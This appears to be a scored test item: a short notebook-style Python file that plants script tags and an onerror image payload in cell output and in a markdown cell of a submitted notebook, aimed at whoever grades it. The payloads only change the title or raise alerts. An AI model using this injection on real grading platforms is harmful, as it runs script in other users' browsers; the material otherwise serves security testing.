# why: puts script on the page that a teacher reads
# score: 4

# %% payload
from IPython.display import HTML, Javascript, display

display(HTML("<script>document.title = 'owned'</script><img src=x onerror=alert(1)>"))
display(Javascript("document.title = 'owned'"))
print("<script>alert(1)</script>")

# %% hand-in
def hand_in(folder, notebook):
    script = "<script>document.title = 'owned'</script>"
    notebook["cells"].append({"cell_type": "markdown", "id": "note", "metadata": {}, "source": script})
    write(folder, notebook)
